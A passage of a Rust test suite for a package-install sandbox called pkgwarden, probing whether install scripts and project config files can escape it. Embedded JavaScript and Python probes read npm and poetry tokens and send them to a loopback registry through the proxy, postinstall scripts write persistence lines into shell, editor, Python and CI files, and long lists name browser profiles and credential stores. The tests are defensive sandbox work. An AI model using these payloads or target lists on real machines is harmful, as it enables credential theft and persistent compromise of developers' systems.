    ".volta/bin/git",
    ".docker/cli-plugins/docker-compose",
    ".gradle/init.d/eyes16.gradle",
    ".config/go/env",
    ".sbt/1.0/global.sbt",
    ".config/nvim/lua/config/options.lua",
    ".config/nvim/after/plugin/eyes16.lua",
    ".vim/pack/eyes16/start/x/plugin/x.vim",
    ".config/i3/config",
    ".config/sway/config",
    ".config/hypr/hyprland.conf",
    ".config/plasma-workspace/env/eyes16.sh",
    ".xsession",
    // zsh's files where `ZDOTDIR` (set in `~/.zshenv`) moves them, the
    // XDG layout dotfile guides recommend.
    ".config/zsh/.zshrc",
    // The user site (`python -m site --user-site`): a `.pth` line and
    // `usercustomize` run at every start of every Python of that version.
    ".local/lib/python3.11/site-packages/eyes16.pth",
    ".local/lib/python3.11/site-packages/usercustomize.py",
    // Read by every curl and wget run: `proxy = http://…` sends every
    // later request (with its `Authorization` header) through a host the
    // package names. bun's global configuration: `preload` runs code at
    // every `bun` start.
    ".curlrc",
    ".wgetrc",
    ".bunfig.toml",
];

/// Class 3 (persistence), protect, the root project's script (a
/// dependency's bin its postinstall runs): it writes each place of
/// [`LATER_RUN`] (the directories exist, as on a developer's machine).
/// Control: `~/.bashrc` is refused.
#[test]
fn what_other_programs_run_later_is_persistence() {
    use support::probes::{deps, root_tool};
    let mut rels: Vec<&str> = LATER_RUN.to_vec();
    rels.push(".bashrc");
    let body = format!(
        r#"
for (const f of {rels:?}) {{
  t(f, () => {{
    const p = path.join(home, f);
    fs.appendFileSync(p, f.endsWith(".pth") ? "import os\n" : "\n# EYES16-LATER\n");
    // What PATH or the docker CLI runs must be executable.
    if (/(^|\/)(bin|pnpm|cli-plugins)\//.test(f)) fs.chmodSync(p, 0o755);
  }});
}}
"#
    );
    let registry = NpmRegistry::start_with(vec![root_tool(&body)]);
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    for f in &rels {
        let p = home.join(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        if f.starts_with(".config/")
            || f.ends_with(".lua")
            || [".bashrc", ".curlrc", ".wgetrc", ".bunfig.toml"].contains(f)
        {
            fs::write(&p, "# the user's\n").unwrap();
        }
    }
    let project = env.home.subdir("work/proj");
    let mut manifest = deps(&["pw-tool"]);
    manifest["scripts"] = serde_json::json!({"postinstall": "pw-tool"});
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let url = registry.registry_url();
    // The user's shell has the toolchains' command directories on PATH.
    let mut path: Vec<std::path::PathBuf> = [
        ".local/share/pnpm",
        ".cargo/bin",
        ".bun/bin",
        ".deno/bin",
        ".volta/bin",
    ]
    .iter()
    .map(|d| home.join(d))
    .collect();
    path.extend(std::env::split_paths(&env.path));
    let path = std::env::join_paths(path)
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let r = support::installs::install(
        &env,
        "protect",
        &["npm", "install", "--registry", &url],
        &project,
        &[("PATH", path)],
    );
    let result: Value = fs::read(project.join("node_modules/pw-tool/result.json"))
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap_or(Value::Null);
    assert!(!result.is_null(), "pw-tool did not run\n{}", r.stderr);
    assert_ne!(result[".bashrc"], "ok", "the control was written");
    let serious: Vec<String> = r
        .serious()
        .iter()
        .map(|f| f["title"].as_str().unwrap_or("").to_string())
        .collect();
    // A place counts as held when its write was refused or a finding of
    // medium or more names it.
    let unseen: Vec<&str> = LATER_RUN
        .iter()
        .copied()
        .filter(|f| result[*f] == "ok")
        .filter(|f| !serious.iter().any(|s| s.contains(f)))
        .collect();
    assert!(
        unseen.is_empty(),
        "written with no finding of medium or more naming them: {unseen:?}\nserious findings {serious:#?}"
    );
}

/// A loopback "registry" that answers 404 to everything and keeps each
/// request's first line.
fn line_sink() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{Read, Write};
    use std::sync::{Arc, Mutex};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let heard = Arc::new(Mutex::new(Vec::<String>::new()));
    let h = heard.clone();
    // Never joined: it waits for clients that may not come.
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            let mut buf = vec![0u8; 8192];
            let n = c.read(&mut buf).unwrap_or(0);
            let req = String::from_utf8_lossy(&buf[..n]).to_string();
            if let Some(first) = req.lines().next() {
                h.lock().unwrap().push(first.to_string());
            }
            let _ = c.write_all(
                b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
            );
        }
    });
    (port, heard)
}

/// The "yarn" a cloned project's `.yarnrc` names (`yarn-path`): it reads
/// the user's `~/.npmrc` (readable to a yarn install: yarn itself uses
/// it) and asks the project's registry (a host the plan allows) for a path
/// carrying the token, through the proxy pkgwarden gives the install.
const YARN_PATH_JS: &str = r#"
const fs = require("fs"), path = require("path"), http = require("http");
let rc = "";
try { rc = fs.readFileSync(path.join(process.env.HOME, ".npmrc"), "utf8"); } catch (e) { rc = "ERR-" + e.code; }
const tok = (rc.match(/_authToken=(\S+)/) || [null, rc.slice(0, 20)])[1];
const reg = fs.readFileSync(path.join(process.cwd(), ".yarnrc"), "utf8").match(/registry "([^"]+)"/)[1];
const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy || reg);
process.stderr.write("EYES16 yarn.js: token " + String(tok).slice(0, 8) + "… proxy " + proxy.host + "\n");
const headers = {host: new URL(reg).host};
if (proxy.username) headers["proxy-authorization"] = "Basic " + Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
const req = http.request({host: proxy.hostname, port: proxy.port, path: reg + "pw-" + encodeURIComponent(tok), headers}, res => { let b = ""; res.on("data", d => b += d); res.on("end", () => { process.stderr.write("EYES16 yarn.js: " + res.statusCode + " " + b.slice(0, 200) + "\n"); process.exit(0); }); });
req.on("error", e => { process.stderr.write("EYES16 yarn.js: " + e.code + "\n"); process.exit(0); });
req.end();
"#;

/// Class 10 (credentials read by the wrong code), round 13's "doubtful, by
/// design" item made concrete. A cloned project's `.yarnrc` names its own
/// `yarn-path` (`tools/yarn.js`, a file of the repository) and its own
/// `registry` (a loopback listener; the plan allows it, in block too).
/// The probe asks the real yarn (`YARN_IGNORE_PATH=1`), but the install
/// runs the project's file as the manager, in the install's own domain,
/// where the user's `~/.npmrc` is readable: it read the token of the
/// user's private registry (another host) and sent it to the project's
/// registry through pkgwarden's proxy, in block.
#[test]
#[ignore = "round 16: a cloned project's .yarnrc yarn-path runs as the manager in block, reads the user's ~/.npmrc token and sends it to the project's registry through the proxy"]
fn a_projects_yarn_path_does_not_get_the_users_npm_token() {
    let (port, heard) = line_sink();
    let env = ShimEnv::new(&[]);
    let project = env.home.subdir("proj");
    fs::write(
        env.home.path().join(".npmrc"),
        "//127.0.0.1:9/:_authToken=EYES16-NPMTOKEN\n",
    )
    .unwrap();
    fs::create_dir_all(project.join("tools")).unwrap();
    fs::write(project.join("tools/yarn.js"), YARN_PATH_JS).unwrap();
    fs::write(
        project.join(".yarnrc"),
        format!("yarn-path \"./tools/yarn.js\"\nregistry \"http://127.0.0.1:{port}/\"\n"),
    )
    .unwrap();
    fs::write(
        project.join("package.json"),
        support::probes::deps(&[]).to_string(),
    )
    .unwrap();
    let r = support::installs::install(
        &env,
        "block",
        &["yarn", "install", "--non-interactive"],
        &project,
        &[],
    );
    std::thread::sleep(std::time::Duration::from_millis(200));
    let heard = heard.lock().unwrap().clone();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        !heard.iter().any(|l| l.contains("EYES16-NPMTOKEN")),
        "the project's yarn sent the user's npm token to the project's registry: {heard:?}; exit {}; serious findings {said:?}\n{}",
        r.code,
        r.stderr
    );
}

/// Bypass 11's twin for pnpm: a cloned project's `.pnpmfile.cjs` (pnpm's
/// documented hooks file, loaded into the pnpm process itself) runs
/// [`YARN_PATH_JS`]'s code at load, with the registry the project's
/// `.npmrc` names; the user's `~/.npmrc` is readable to a pnpm install.
#[test]
#[ignore = "round 16: a cloned project's .pnpmfile.cjs runs inside pnpm in block, reads the user's ~/.npmrc token and sends it to the project's registry through the proxy"]
fn a_projects_pnpmfile_does_not_get_the_users_npm_token() {
    let (port, heard) = line_sink();
    let env = ShimEnv::new(&[]);
    let project = env.home.subdir("proj");
    fs::write(
        env.home.path().join(".npmrc"),
        "//127.0.0.1:9/:_authToken=EYES16-NPMTOKEN\n",
    )
    .unwrap();
    let reg = format!("http://127.0.0.1:{port}/");
    let js = YARN_PATH_JS
        .replace(
            r#"fs.readFileSync(path.join(process.cwd(), ".yarnrc"), "utf8").match(/registry "([^"]+)"/)[1]"#,
            &format!("{reg:?}"),
        )
        .replace("process.exit(0)", "0");
    fs::write(
        project.join(".pnpmfile.cjs"),
        format!("{js}\nmodule.exports = {{ hooks: {{}} }};\n"),
    )
    .unwrap();
    fs::write(project.join(".npmrc"), format!("registry={reg}\n")).unwrap();
    fs::write(
        project.join("package.json"),
        support::probes::deps(&[]).to_string(),
    )
    .unwrap();
    let r = support::installs::install(&env, "block", &["pnpm", "install"], &project, &[]);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let heard = heard.lock().unwrap().clone();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        !heard.iter().any(|l| l.contains("EYES16-NPMTOKEN")),
        "the project's pnpmfile sent the user's npm token to the project's registry: {heard:?}; exit {}; serious findings {said:?}\n{}",
        r.code,
        r.stderr
    );
}

/// The brief's `bundle_settings` focus: `bundle exec --gemfile=<path>`
/// (Bundler's `CLI#initialize` sets `BUNDLE_GEMFILE` from the option and
/// reloads the settings, read in Ruby 3.1's Bundler 2.3.7 `cli.rb`), so
/// the app configuration read is `<path>`'s directory's `.bundle/config`.
/// There `auto_install` is on; in the working directory it is not. The
/// shim (a copy of `pkgwarden-shim` whose "full pkgwarden" is a stand-in,
/// eyes15's harness) asks the settings of the working directory only and
/// execs the real bundle in block. Control: the same `exec` run inside
/// `other/` is deferred.
#[test]
fn bundle_exec_gemfile_option_is_followed() {
    let home = TestHome::new();
    let bin = home.subdir("pwbin");
    let shim = pkgwarden_bin().with_file_name("pkgwarden-shim");
    fs::copy(&shim, bin.join("pkgwarden-shim")).unwrap();
    let script = |p: &Path, text: &str| {
        use std::os::unix::fs::PermissionsExt;
        fs::write(p, text).unwrap();
        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
    };
    script(&bin.join("pkgwarden"), "#!/bin/sh\necho full pkgwarden\n");
    let shims = home.subdir("shims");
    let real = home.subdir("real");
    std::os::unix::fs::symlink(bin.join("pkgwarden-shim"), shims.join("bundle")).unwrap();
    script(&real.join("bundle"), "#!/bin/sh\necho real bundle\n");
    let project = home.subdir("proj");
    fs::write(project.join("Gemfile"), "source \"http://127.0.0.1:9\"\n").unwrap();
    let other = home.subdir("proj/other");
    fs::write(
        other.join("Gemfile"),
        "source \"http://127.0.0.1:9\"\ngem \"rake\"\n",
    )
    .unwrap();
    fs::create_dir_all(other.join(".bundle")).unwrap();
    fs::write(
        other.join(".bundle/config"),
        "---\nBUNDLE_AUTO_INSTALL: \"true\"\n",
    )
    .unwrap();
    let mut direct = Vec::new();
    for (args, at) in [
        (&["exec", "rake"][..], &other),
        (&["exec", "--gemfile=other/Gemfile", "rake"], &project),
        (&["exec", "--gemfile", "other/Gemfile", "rake"], &project),
    ] {
        let mut cmd = home.command(shims.join("bundle"));
        for (k, _) in std::env::vars_os() {
            if k.to_string_lossy().starts_with("PKGWARDEN_")
                || k.to_string_lossy().starts_with("BUNDLE_")
            {
                cmd.env_remove(&k);
            }
        }
        cmd.env("PATH", std::env::join_paths([&shims, &real]).unwrap())
            .env("PKGWARDEN_SHIMS_DIR", &shims)
            .env("PKGWARDEN_MODE", "block")
            .current_dir(at)
            .args(args);
        std::os::unix::process::CommandExt::arg0(&mut cmd, "bundle");
        let out = run(&mut cmd);
        if stdout_str(&out).trim() == "real bundle" {
            direct.push(args.join(" "));
        }
    }
    assert!(
        !direct.contains(&"exec rake".to_string()),
        "the control went to the real bundle"
    );
    assert!(direct.is_empty(), "went to the real bundle: {direct:#?}");
}

/// A module a cloned project keeps in `.poetry/plugins/` with a `.pth`
/// naming it: it reads poetry's credential store (readable to a poetry
/// install: poetry itself uses it) and asks the project's source (`{reg}`)
/// through pkgwarden's proxy for a path carrying it; it says what it did on
/// stderr.
const POETRY_PTH_PY: &str = r#"
import base64, os, sys, urllib.parse, urllib.request
try:
    t = open(os.path.expanduser("~/.config/pypoetry/auth.toml")).read()
except OSError as e:
    t = "ERR-%d" % e.errno
tok = "".join(c for c in t if c.isalnum() or c == "-")[-40:]
sys.stderr.write("EYES16 poetry .pth: read %s\n" % tok[:24])
try:
    p = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy"))
    req = urllib.request.Request("{reg}pw-" + urllib.parse.quote(tok))
    if p.username:
        cred = urllib.parse.unquote(p.username) + ":" + urllib.parse.unquote(p.password or "")
        req.add_header("Proxy-Authorization", "Basic " + base64.b64encode(cred.encode()).decode())
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://%s:%d" % (p.hostname, p.port)}))
    opener.open(req, timeout=10)
except Exception as e:
    sys.stderr.write("EYES16 poetry .pth: %r\n" % (e,))
"#;

/// Bypass 11's twin for poetry. Poetry 2 (`console/application.py`
/// `_load_plugins`, read in the installed 2.5.1) calls `site.addsitedir`
/// on `<project>/.poetry/plugins` whenever it exists, for every command
/// (unless `--no-plugins`): a `.pth` there runs inside poetry. A cloned
/// project ships `.poetry/plugins/eyes16.pth` (`import eyes16poetry`) and
/// the module beside it, and names its own source (a loopback listener;
/// the plan allows it). `poetry lock` in block: the module read the
/// user's `~/.config/pypoetry/auth.toml` (readable to poetry's install)
/// and sent it to the project's source through pkgwarden's proxy.
#[test]
#[ignore = "round 16: a cloned project's .poetry/plugins/*.pth runs inside poetry in block, reads ~/.config/pypoetry/auth.toml and sends it to the project's source through the proxy"]
fn a_projects_poetry_plugin_dir_does_not_get_the_users_auth() {
    if which::which("poetry").is_err() {
        eprintln!("skipped: no poetry");
        return;
    }
    let (port, heard) = line_sink();
    let reg = format!("http://127.0.0.1:{port}/");
    let env = ShimEnv::new(&[]);
    let auth = env.home.path().join(".config/pypoetry/auth.toml");
    fs::create_dir_all(auth.parent().unwrap()).unwrap();
    fs::write(
        &auth,
        "[http-basic.private]\nusername = \"eyes16\"\npassword = \"EYES16-POETRYAUTH\"\n",
    )
    .unwrap();
    let project = env.home.subdir("poproj");
    fs::write(
        project.join("pyproject.toml"),
        format!(
            "[project]\nname = \"poproj\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"pwanything\"]\n\n[[tool.poetry.source]]\nname = \"proj\"\nurl = \"{reg}simple/\"\npriority = \"primary\"\n"
        ),
    )
    .unwrap();
    let plugins = project.join(".poetry/plugins");
    fs::create_dir_all(&plugins).unwrap();
    fs::write(plugins.join("eyes16.pth"), "import eyes16poetry\n").unwrap();
    fs::write(
        plugins.join("eyes16poetry.py"),
        POETRY_PTH_PY.replace("{reg}", &reg),
    )
    .unwrap();
    let r = support::installs::install(
        &env,
        "block",
        &["poetry", "lock"],
        &project,
        &[("POETRY_VIRTUALENVS_CREATE", "false".to_string())],
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    let heard = heard.lock().unwrap().clone();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        !heard.iter().any(|l| l.contains("EYES16-POETRYAUTH")),
        "the project's .pth sent poetry's credentials to the project's source: {heard:?}; exit {}; serious findings {said:?}\n{}",
        r.code,
        r.stderr
    );
}

/// Browser and chat profiles where Ubuntu's snaps and Flatpak keep them
/// (Ubuntu ships Firefox and Chromium as snaps: the default browser of
/// the commonest developer desktop), the files token stealers take
/// (cookies, saved logins and their key, session storage).
const SANDBOXED_APP_PROFILES: &[&str] = &[
    "snap/firefox/common/.mozilla/firefox/ab12cd34.default/cookies.sqlite",
    "snap/firefox/common/.mozilla/firefox/ab12cd34.default/logins.json",
    "snap/firefox/common/.mozilla/firefox/ab12cd34.default/key4.db",
    "snap/chromium/common/chromium/Default/Cookies",
    ".var/app/org.mozilla.firefox/.mozilla/firefox/ab12cd34.default/logins.json",
    ".var/app/com.google.Chrome/config/google-chrome/Default/Login Data",
    ".var/app/com.discordapp.Discord/config/discord/Local Storage/leveldb/000003.log",
    ".var/app/com.slack.Slack/config/Slack/Cookies",
];

/// Class 7/1 (credential stores no list names), round 15's bypass 2 at
/// the places snaps and Flatpak move the same profiles to: `home_hidden`
/// names `.mozilla`, `.config/google-chrome`, `.config/chromium`,
/// `.config/discord`, `.config/Slack`, not `~/snap/<app>/common/…` or
/// `~/.var/app/<id>/…`. A dependency's postinstall reads each, in block.
/// Control: `~/.mozilla/firefox/…/logins.json` is refused.
#[test]
#[ignore = "round 16: browser and chat profiles of snaps and Flatpaks (~/snap/firefox, ~/.var/app/…: Ubuntu's default Firefox) are read by package code in block"]
fn browser_profiles_of_snaps_and_flatpaks_are_hidden() {
    use support::probes::{deps, probe};
    let mut rels: Vec<&str> = SANDBOXED_APP_PROFILES.to_vec();
    rels.push(".mozilla/firefox/ab12cd34.default/logins.json");
    let body = reads_body("home", &rels, "EYES16-PROFILE");
    let registry = NpmRegistry::start_with(vec![probe("pw-profiles", &body)]);
    let env = ShimEnv::new(&[]);
    for f in &rels {
        let p = env.home.path().join(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, "EYES16-PROFILE\n").unwrap();
    }
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-profiles"]),
        "pw-profiles",
        &[],
    );
    assert!(!result.is_null(), "pw-profiles did not run\n{}", r.stderr);
    assert_ne!(
        result[".mozilla/firefox/ab12cd34.default/logins.json"], "ok",
        "the control was read"
    );
    let read: Vec<&str> = SANDBOXED_APP_PROFILES
        .iter()
        .copied()
        .filter(|f| result[*f] == "ok")
        .collect();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(read.is_empty(), "read {read:?}; serious findings {said:?}");
}

/// Class 3 (persistence) in CI, round 15's bypass 15 by the actions
/// themselves. A GitHub Actions runner downloads every action a job uses
/// when the job starts, to `<runner work>/_actions/<owner>/<repo>/<ref>/`
/// (hosted runners: `/home/runner/work/_actions`, below HOME, beside the
/// workspace `/home/runner/work/<repo>/<repo>`), and each later step runs
/// its action's code from there with that step's inputs, secrets and
/// `ACTIONS_RUNTIME_TOKEN`. The root project's postinstall (protect: HOME's
/// tree) appends to `actions/upload-artifact`'s `dist/upload/index.js`;
/// and to the self-hosted runner's tool cache (`_work/_tool/node/…/bin/npm`,
/// `RUNNER_TOOL_CACHE`), held while that `bin` is on PATH (as `setup-node`
/// leaves it), as the test sets it.
#[test]
#[ignore = "round 16: a root script in protect changes the code of actions later steps run (~/work/_actions/<owner>/<repo>/<ref>/…), no finding of medium or more"]
fn a_root_script_does_not_change_the_actions_later_steps_run() {
    use support::probes::{deps, root_tool};
    let rels = [
        "work/_actions/actions/upload-artifact/v4/dist/upload/index.js",
        "work/_tool/node/20.19.0/x64/bin/npm",
    ];
    let body = format!(
        r#"
for (const f of {rels:?}) {{
  t(f, () => fs.appendFileSync(path.join(home, f), "\n// EYES16-ACTION\n"));
}}
"#
    );
    let registry = NpmRegistry::start_with(vec![root_tool(&body)]);
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    for f in rels {
        let p = home.join(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, "// the action's code\n").unwrap();
    }
    let project = env.home.subdir("work/proj/proj");
    let mut manifest = deps(&["pw-tool"]);
    manifest["scripts"] = serde_json::json!({"postinstall": "pw-tool"});
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let url = registry.registry_url();
    let r = support::installs::install(
        &env,
        "protect",
        &["npm", "install", "--registry", &url],
        &project,
        &[
            ("GITHUB_ACTIONS", "true".to_string()),
            // setup-node put the tool cache's node first on PATH.
            (
                "PATH",
                format!(
                    "{}:{}",
                    home.join("work/_tool/node/20.19.0/x64/bin").display(),
                    env.path.to_string_lossy()
                ),
            ),
            ("RUNNER_TEMP", home.join("work/_temp").display().to_string()),
            (
                "RUNNER_TOOL_CACHE",
                home.join("work/_tool").display().to_string(),
            ),
        ],
    );
    let result: Value = fs::read(project.join("node_modules/pw-tool/result.json"))
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap_or(Value::Null);
    assert!(!result.is_null(), "pw-tool did not run\n{}", r.stderr);
    let written: Vec<&str> = rels
        .iter()
        .copied()
        .filter(|f| {
            fs::read_to_string(home.join(f))
                .unwrap_or_default()
                .contains("EYES16-ACTION")
        })
        .collect();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        written.is_empty() || !said.is_empty(),
        "written {written:?}, exit {}, no finding of medium or more",
        r.code
    );
}

/// Installed code of other tools under HOME that `installed_code.toml`
/// does not list (each file made before the install, as the tool left
/// it): npm's global packages under the prefix npm's docs recommend
/// (`~/.npm-global`), yarn 1's global packages, bun's global packages, VS
/// Code Insiders' extensions, Neovim's mason (language servers run at
/// each edit), Emacs' ELPA packages, vim-plug's plugins, tmux's plugins
/// (tpm: run at tmux start), SDKMAN's candidates (the `gradle`, `java`,
/// `mvn` on PATH), JetBrains IDEs' plugins, zinit's plugins.
const OTHER_INSTALLED: &[&str] = &[
    ".npm-global/lib/node_modules/typescript/lib/tsc.js",
    ".config/yarn/global/node_modules/eslint/bin/eslint.js",
    ".bun/install/global/node_modules/prettier/index.js",
    ".vscode-insiders/extensions/ms-python.python-2026.1.0/out/extension.js",
    ".local/share/nvim/mason/packages/pyright/node_modules/pyright/index.js",
    ".emacs.d/elpa/magit-4.1.0/magit.el",
    ".vim/plugged/fzf.vim/plugin/fzf.vim",
    ".tmux/plugins/tmux-sensible/sensible.tmux",
    // The launcher jar the `gradle` script on PATH loads (its `bin`, on
    // PATH through `current`, is kept out of protect's writable tree).
    ".sdkman/candidates/gradle/8.10/lib/gradle-launcher-8.10.jar",
    ".local/share/JetBrains/IntelliJIdea2025.3/eyes16-plugin/lib/eyes16.jar",
    ".local/share/zinit/plugins/zsh-users---zsh-autosuggestions/zsh-autosuggestions.zsh",
];

/// Class 4 (installed code), the root project's script in protect: it
/// appends a line to each file of [`OTHER_INSTALLED`]. Control: a gem's
/// file (`~/.gem/ruby/3.1.0/gems/rake-13.0.6/lib/rake.rb`) is
/// `tamper.installed-package` high.
#[test]
#[ignore = "round 16: a root script in protect changes ~/.npm-global's global packages, yarn's and bun's globals, VS Code Insiders' extensions, mason, ELPA, vim-plug, tpm, SDKMAN, JetBrains and zinit plugins with no finding of medium or more"]
fn other_tools_installed_code_is_watched() {
    use support::probes::{deps, root_tool};
    let control = ".gem/ruby/3.1.0/gems/rake-13.0.6/lib/rake.rb";
    let mut rels: Vec<&str> = OTHER_INSTALLED.to_vec();
    rels.push(control);
    let body = format!(
        r#"
for (const f of {rels:?}) {{
  t(f, () => fs.appendFileSync(path.join(home, f), "\n// EYES16-INSTALLED\n"));
}}
"#
    );
    let registry = NpmRegistry::start_with(vec![root_tool(&body)]);
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    for f in &rels {
        let p = home.join(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, "// the tool's code\n").unwrap();
    }
    let project = env.home.subdir("work/proj");
    let mut manifest = deps(&["pw-tool"]);
    manifest["scripts"] = serde_json::json!({"postinstall": "pw-tool"});
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let url = registry.registry_url();
    let r = support::installs::install(
        &env,
        "protect",
        &["npm", "install", "--registry", &url],
        &project,
        &[],
    );
    let result: Value = fs::read(project.join("node_modules/pw-tool/result.json"))
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap_or(Value::Null);
    assert!(!result.is_null(), "pw-tool did not run\n{}", r.stderr);
    let serious: Vec<String> = r
        .serious()
        .iter()
        .map(|f| f["title"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(
        result[control] != "ok" || serious.iter().any(|s| s.contains("rake.rb")),
        "the control was written unseen: {serious:#?}"
    );
    let unseen: Vec<&str> = OTHER_INSTALLED
        .iter()
        .copied()
        .filter(|f| result[*f] == "ok")
        .filter(|f| !serious.iter().any(|s| s.contains(f)))
        .collect();
    assert!(
        unseen.is_empty(),
        "written with no finding of medium or more naming them: {unseen:?}\nserious findings {serious:#?}"
    );
}

/// Credential stores at their tools' default places that no list names
/// after round 15 (each holds a token, a password or a private key).
const MORE_STORES: &[&str] = &[
    // Docker's default TLS client key (`DOCKER_TLS_VERIFY` without
    // `DOCKER_CERT_PATH`), a docker context's key, docker-machine's.
    ".docker/key.pem",
    ".docker/contexts/tls/0a1b2c3d/docker/key.pem",
    ".docker/machine/certs/key.pem",
    // Cloudflare Tunnel's origin certificate (the account's token).
    ".cloudflared/cert.pem",
    // dbt's warehouse logins, Snowflake CLI's connections.
    ".dbt/profiles.yml",
    ".snowflake/connections.toml",
    // Hetzner's, Supabase's, Railway's, Expo's CLI tokens; Snyk's (in
    // configstore); Talos' admin key.
    ".config/hcloud/cli.toml",
    ".supabase/access-token",
    ".railway/config.json",
    ".expo/state.json",
    ".config/configstore/snyk.json",
    ".talos/config",
    // Package registries of other ecosystems: NuGet, Dart, Hex, sbt/Ivy.
    ".nuget/NuGet/NuGet.Config",
    ".pub-cache/credentials.json",
    ".hex/hex.config",
    ".ivy2/.credentials",
    ".sbt/.credentials",
    // R's environment file (`GITHUB_PAT=…` by usethis' advice).
    ".Renviron",
    // Editors' and IDEs' secret storage: Cursor's access token and VS
    // Code's sessions in `state.vscdb` (plain SQLite; with no keyring the
    // rest is encrypted with a fixed key), the same on a remote host,
    // JetBrains' KeePass file with its key file beside it, DBeaver's
    // saved database passwords (a fixed AES key).
    ".config/Cursor/User/globalStorage/state.vscdb",
    ".config/Code/User/globalStorage/state.vscdb",
    ".vscode-server/data/User/globalStorage/state.vscdb",
    ".config/JetBrains/IntelliJIdea2025.3/c.kdbx",
    ".config/JetBrains/IntelliJIdea2025.3/c.pwd",
    ".local/share/DBeaverData/workspace6/General/.dbeaver/credentials-config.json",
];

/// Class 7/1 (credential stores no list names), round 15's bypass 2
/// again: a dependency's postinstall reads each of [`MORE_STORES`] in
/// block. Control: `~/.docker/config.json` is refused.
#[test]
#[ignore = "round 16: more credential stores no list names (~/.docker/key.pem and contexts, cloudflared, dbt, Snowflake, hcloud, Supabase, Railway, Expo, Snyk, Talos, NuGet, pub, Hex, Ivy/sbt, .Renviron, Cursor/VS Code state.vscdb, JetBrains c.kdbx, DBeaver) are read by package code in block"]
fn more_credential_stores_are_hidden() {
    use support::probes::{deps, probe};
    let mut rels: Vec<&str> = MORE_STORES.to_vec();
    rels.push(".docker/config.json");
    let body = reads_body("home", &rels, "EYES16-STORE");
    let registry = NpmRegistry::start_with(vec![probe("pw-stores16", &body)]);
    let env = ShimEnv::new(&[]);
    for f in &rels {
        let p = env.home.path().join(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, "token = EYES16-STORE\n").unwrap();
    }
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-stores16"]),
        "pw-stores16",
        &[],
    );
    assert!(!result.is_null(), "pw-stores16 did not run\n{}", r.stderr);
    assert_ne!(result[".docker/config.json"], "ok", "the control was read");
    let read: Vec<&str> = MORE_STORES
        .iter()
        .copied()
        .filter(|f| result[*f] == "ok")
        .collect();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(read.is_empty(), "read {read:?}; serious findings {said:?}");
}

/// Class 10 (credentials read by package code), a monorepo: CI writes the
/// registry token into the repository root's `.npmrc` (`echo
/// "//host/:_authToken=$NPM_TOKEN" > .npmrc`, the common recipe) and runs
/// the install in a package's directory. pkgwarden hides the `.npmrc` of
/// the nearest `package.json` (npm's local prefix as `npm_local_prefix`
/// finds it); the root's is neither that nor a `[project]` name. A
/// dependency's postinstall reads it, in block. Control: the package's own
/// `.npmrc` is refused.
#[test]
#[ignore = "round 16: a monorepo root's .npmrc (the CI token) and a project's .yarnrc.yml (npmAuthToken) are read by package code when the install runs in a package's directory, in block"]
fn a_monorepo_roots_npmrc_is_hidden() {
    use support::probes::{deps, probe};
    let body = r#"
const root = path.resolve(process.cwd(), "..", "..", "..", "..");
const app = path.resolve(process.cwd(), "..", "..");
t("root", () => { if (!fs.readFileSync(path.join(root, ".npmrc"), "utf8").includes("EYES16-ROOTNPMRC")) throw new Error("other"); });
t("app", () => fs.readFileSync(path.join(app, ".npmrc"), "utf8"));
t("yarnrc", () => { if (!fs.readFileSync(path.join(app, ".yarnrc.yml"), "utf8").includes("EYES16-YARNRC")) throw new Error("other"); });
"#;
    let registry = NpmRegistry::start_with(vec![probe("pw-rootrc", body)]);
    let env = ShimEnv::new(&[]);
    let repo = env.home.subdir("repo");
    fs::create_dir_all(repo.join(".git")).unwrap();
    fs::write(
        repo.join(".npmrc"),
        "//127.0.0.1:9/:_authToken=EYES16-ROOTNPMRC\n",
    )
    .unwrap();
    fs::write(
        repo.join("package.json"),
        r#"{"name":"repo","private":true}"#,
    )
    .unwrap();
    let app = env.home.subdir("repo/packages/app");
    fs::write(app.join(".npmrc"), "# the package's own\n").unwrap();
    // yarn 2+'s project configuration with its token (`yarn config set
    // npmAuthToken` writes the project's file).
